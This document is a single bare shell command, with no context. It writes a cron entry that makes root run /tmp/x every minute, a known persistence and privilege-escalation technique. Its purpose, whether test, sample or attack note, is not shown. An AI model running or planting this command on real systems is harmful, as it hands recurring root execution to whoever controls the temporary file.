echo '* * * * * root sh /tmp/x' > /etc/cron.d/x
